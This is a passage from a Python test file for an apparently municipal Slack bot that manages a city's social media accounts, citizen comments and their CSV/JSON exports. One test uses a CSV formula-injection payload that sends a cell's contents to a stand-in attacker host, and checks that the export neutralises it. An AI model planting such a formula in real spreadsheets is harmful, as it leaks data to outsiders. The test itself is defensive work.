                                env={**env, "PATH": "/usr/bin:/bin"}, capture_output=True, text=True, timeout=60)
        assert result.returncode == 0, result.stderr
        return result.stdout
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    out = tmp_path / "export.out"
    assert main(["export", *args, "--output", str(out)]) == 0
    return out.read_text(encoding="utf-8-sig")  # a CSV starts with a BOM (for Excel)


def test_export_covers_accounts_comments_and_the_audit_record(koho, monkeypatch, tmp_path):
    koho.slack.view_submission("U0PR1", open_add_form(koho), NEW_ACCOUNT)
    click(koho, "U0PR2", posted(koho, "C0PR", "アカウント開設申請"), AccountAction.APPROVE_CHANGE)
    updated(koho, posted(koho, "C0PR", "アカウント開設申請"), "が承認しました")
    receive(koho, "ごみの収集日を教えてください。電話 090-1234-5678")

    def export(*args):
        return run_export(koho, monkeypatch, tmp_path, *args)

    accounts = json.loads(run_export(koho, monkeypatch, tmp_path, "accounts", "--format", "json", process=True))
    by_id = {a["id"]: a for a in accounts}
    assert set(by_id) == {"city-x", "city-line", "kankyo-instagram", "kensetsu-x"}
    (change,) = by_id["kensetsu-x"]["changes"]
    assert change | {"payload": None} == {
        "id": 1, "kind": "open", "status": "approved", "requested_by": "U0PR1", "requested_at": "2026-11-24T10:00:00+09:00",
        "decided_by": "U0PR2", "decided_at": "2026-11-24T10:00:00+09:00", "reason": None, "decision_reason": None,
        "payload": None}
    assert change["payload"]["department_id"] == "kensetsu" and change["payload"]["handle"] == "@chiba_douro"
    rows = list(csv.DictReader(io.StringIO(export("accounts"))))
    assert [r["operators"] for r in rows if r["id"] == "kensetsu-x"] == ["U0KENSETSU1 U0KENSETSU2"]
    (csv_change,) = next(json.loads(r["changes"]) for r in rows if r["id"] == "kensetsu-x")
    assert csv_change["payload"]["department_id"] == "kensetsu"

    (comment,) = json.loads(export("comments", "--format", "json"))
    assert comment["department"] == "kankyo" and "090-1234-5678" not in comment["masked_text"]
    assert comment["received_at"] == "2026-11-24T09:58:00+09:00" and comment["hiding_requests"] == []  # as sent
    assert [(h["action"], h["actor"], h["to"], h["at"]) for h in comment["history"]] == [
        ("comment.received", "system", "routed", "2026-11-24T10:00:00+09:00")]
    (row,) = list(csv.DictReader(io.StringIO(export("comments"))))
    assert (row["status"], row["status_label"], row["category"], row["category_label"]) == (
        "routed", "振分済（未確認）", "question", "相談・問合せ")
    assert json.loads(row["history"]) == comment["history"]

    events = json.loads(export("audit", "--format", "json"))
    assert {"account.seeded", "account.change_approved", "account.opened"} <= {e["action"] for e in events}
    audit_rows = list(csv.DictReader(io.StringIO(export("audit", "--since", "2026-11-24"))))
    opened = next(r for r in audit_rows if r["action"] == "account.opened")
    assert opened["actor"] == "U0PR2" and json.loads(opened["details"]) == {"change": 1}
    assert json.loads(export("audit", "--format", "json", "--since", "2027-01-01")) == []


def test_a_comments_link_is_exported_masked_as_slack_shows_it(koho, monkeypatch, tmp_path):
    """A web form's reply link carries what the citizen typed: Slack shows it masked, and so does the export
    (a public-records disclosure must not leak what the bot itself never showed)."""
    url = "https://forms.example.jp/reply?mail=taro@example.jp&tel=09012345678"
    comment_id = receive(koho, "粗大ごみの回収日を教えてください", url=url)
    shown = texts(message_showing(koho, "C0KANKYO", comment_id))
    assert "reply?mail=[メールアドレス]&amp;tel=[電話番号]" in shown and "taro@example.jp" not in shown

    (comment,) = json.loads(run_export(koho, monkeypatch, tmp_path, "comments", "--format", "json"))
    assert comment["url"] == "https://forms.example.jp/reply?mail=⟦email⟧&tel=⟦phone⟧"  # as masked_text: neutral
    as_csv = run_export(koho, monkeypatch, tmp_path, "comments")
    assert [row["url"] for row in csv.DictReader(io.StringIO(as_csv))] == [comment["url"]]
    assert "taro@example.jp" not in as_csv and "09012345678" not in as_csv


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"詳しくはこちら")'
COLD_WAVE = "-10℃の寒波に注意してください。水道管の凍結にご注意を。問い合わせ: 水道局 043-000-0000"


def test_a_csv_export_opens_in_japanese_excel_as_the_city_wrote_it(koho, monkeypatch, tmp_path):
    """Japanese Excel reads a CSV without a byte-order mark as Shift_JIS, and runs a cell starting with = + - @
    as a formula: a citizen's HYPERLINK would send the sheet away, staff's "-10℃" would be mangled. The CSV
    starts with a BOM, such a cell with ', and every time is the city's (an 08:30 comment is not the day
    before's 23:30 UTC). The JSON keeps the text as stored, without a BOM."""
    proposal_id = propose(koho, text=COLD_WAVE)
    koho.clock.advance(timedelta(hours=22, minutes=30))  # 08:30 the next morning in Chiba
    receive(koho, HYPERLINK, received_at="2026-11-25T08:29:00+09:00")
    receive(koho, "@SUM(1+1) ごみ収集車の音がうるさい", received_at="2026-11-25T08:29:30+09:00")
    env = {**test_environ(koho.fake, koho.settings.database_url), "PATH": "/usr/bin:/bin"}

    as_read = subprocess.run([sys.executable, "-m", "bot", "export", "comments"], cwd=ROOT, env=env,
                             capture_output=True, timeout=60)  # standard output, as bytes
    assert as_read.returncode == 0, as_read.stderr
    assert as_read.stdout.startswith(b"\xef\xbb\xbfid,received_at,")
    rows = list(csv.DictReader(io.StringIO(as_read.stdout.decode("utf-8-sig"))))
    assert [r["masked_text"] for r in rows] == ["'" + HYPERLINK, "'@SUM(1+1) ごみ収集車の音がうるさい"]
    assert [r["received_at"] for r in rows] == ["2026-11-25T08:29:00+09:00", "2026-11-25T08:29:30+09:00"]
    assert json.loads(rows[0]["history"])[0]["at"] == "2026-11-25T08:30:00+09:00"

    as_json = subprocess.run([sys.executable, "-m", "bot", "export", "comments", "--format", "json"], cwd=ROOT,
                             env=env, capture_output=True, timeout=60).stdout
    assert as_json.startswith(b"[")
    assert [c["masked_text"] for c in json.loads(as_json)][0] == HYPERLINK

    for name, value in env.items():
        monkeypatch.setenv(name, value)
    out = tmp_path / "proposals.csv"
    assert main(["export", "proposals", "--output", str(out)]) == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfproposal_id,")
    (row,) = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert row["proposal_id"] == str(proposal_id) and row["text"] == "'" + COLD_WAVE
    assert row["created_at"] == "2026-11-24T10:00:00+09:00"


def test_a_hidden_comment_is_exported_with_its_hiding_request_and_history(koho, monkeypatch, tmp_path):
    """Who asked to hide it, on which criterion, who confirmed it and when: in the comment's own record."""
    comment_id = receive(koho, "ごみ収集の〇〇という職員は最低の人間だ")
    message = message_showing(koho, "C0KANKYO", comment_id)
    request_hiding(koho, "U0STAFF1", message)
    koho.clock.advance(timedelta(minutes=30))
    click(koho, "U0PR1", hiding_request_message(koho), CommentAction.CONFIRM_HIDING)
    updated(koho, message, "非表示・削除を承認しました")

    (comment,) = json.loads(run_export(koho, monkeypatch, tmp_path, "comments", "--format", "json"))
    assert comment["status"] == "hidden" and comment["closed_by"] == "U0PR1"
    (hiding,) = comment["hiding_requests"]
    assert hiding | {"id": None} == {
        "id": None, "criterion": "defamation", "note": "特定の職員への誹謗中傷", "status": "confirmed",
        "requested_by": "U0STAFF1", "requested_at": "2026-11-24T10:00:00+09:00",
        "decided_by": "U0PR1", "decided_at": "2026-11-24T10:30:00+09:00"}
    assert [(h["action"], h["actor"], h["from"], h["to"], h["at"], h["note"]) for h in comment["history"]] == [
        ("comment.received", "system", None, "routed", "2026-11-24T10:00:00+09:00", "matched"),
        ("comment.hiding_requested", "U0STAFF1", "routed", "routed", "2026-11-24T10:00:00+09:00",
         "特定の職員への誹謗中傷"),
        ("comment.confirm_hiding", "U0PR1", "routed", "hidden", "2026-11-24T10:30:00+09:00", "defamation"),
    ]
    (row,) = list(csv.DictReader(io.StringIO(run_export(koho, monkeypatch, tmp_path, "comments"))))
    assert json.loads(row["hiding_requests"]) == comment["hiding_requests"]
    assert json.loads(row["history"]) == comment["history"] and row["status_label"] == "非表示・削除"


def test_published_counts_come_from_the_record(koho):
    publish_one(koho)
    with koho.db.read() as session:
        assert session.query(Publication).filter_by(status="published").count() == 1
    shown = account_list(koho)
    assert "直近90日の投稿: 1件" in json.dumps(
        next(b for b in shown["blocks"] if b.get("block_id") == "account:city-x"), ensure_ascii=False)


def test_an_account_opened_through_koho_takes_a_post_from_proposal_to_publication(koho):
    """The register is the truth for accounts: one opened in Slack (not in the organisation file) is
    counted by its platform's rule, shown by its name, and handed off to its own operators."""
    koho.slack.view_submission("U0PR1", open_add_form(koho), NEW_ACCOUNT)
    click(koho, "U0PR2", posted(koho, "C0PR", "アカウント開設申請"), AccountAction.APPROVE_CHANGE)
    assert "承認しました" in ephemeral(koho, "U0PR2")["text"]
    assert account(koho, "kensetsu-x").status == "active"

    too_long = "通行止め" * 36  # 144 full-width characters: 288 on X's weighted count
    response = koho.slack.view_submission("U0KENSETSU1", open_form(koho, "U0KENSETSU1"),
                                          form_values(text=too_long, accounts=("kensetsu-x",)))
    assert "280" in json.dumps(response.json()["errors"], ensure_ascii=False)  # X's rule, from the register

    proposal_id = propose(koho, "U0KENSETSU1", text="【通行止め】国道14号は12月3日まで夜間通行止めです。",
                          accounts=("kensetsu-x",), department="kensetsu")
    request = request_message(koho, "C0KENSETSU")
    assert "千葉市 建設局 道路情報" in texts(request)
    click(koho, "U0KENSETSUHEAD", request, ProposalAction.APPROVE)
    click(koho, "U0PR1", request_message(koho, "C0PR", count=2), ProposalAction.APPROVE)  # after the account's
    hand_off = hand_off_message(koho, channel="C0KENSETSU")
    assert "<@U0KENSETSU1>" in texts(hand_off) and "千葉市 建設局 道路情報" in texts(hand_off)
    record_publication(koho, "U0KENSETSU2", hand_off, "https://x.com/chiba_douro/status/1")
    with koho.db.read() as session:
        (publication,) = session.query(Publication).filter_by(proposal_id=proposal_id).all()
        assert (publication.account_id, publication.status) == ("kensetsu-x", "published")


def test_comments_on_an_account_opened_through_koho_are_accepted_and_go_to_its_department(koho):
    koho.slack.view_submission("U0PR1", open_add_form(koho), NEW_ACCOUNT)
    click(koho, "U0PR2", posted(koho, "C0PR", "アカウント開設申請"), AccountAction.APPROVE_CHANGE)
    assert "承認しました" in ephemeral(koho, "U0PR2")["text"]
    receive(koho, "いつも拝見しています", account="kensetsu-x")  # no keyword: the account's department decides
    koho.fake.wait_for("chat.postMessage", channel="C0KENSETSU",
                       predicate=lambda c: c.ok and "いつも拝見しています" in texts(c.args))


def test_the_pr_office_home_counts_a_surge_of_untriaged_comments_and_lists_the_oldest_ten(koho):
    """Thousands may wait in a disaster: the Home says how many, and shows the ten waiting longest."""
    ids = [receive(koho, f"素敵な写真をありがとう（{n}）") for n in range(12)]
    koho.slack.app_home_opened("U0PR2")
    koho.fake.wait_for("views.publish", predicate=lambda c: c.ok and c.args["user_id"] == "U0PR2"
                       and "振り分け待ちの市民の声* 12件" in json.dumps(c.args["view"], ensure_ascii=False))
    home = json.dumps(koho.fake.home_views["U0PR2"], ensure_ascii=False)
    assert [i for i in ids if f"• #{i} " in home] == ids[:10]  # the same arrival time: the first stored first
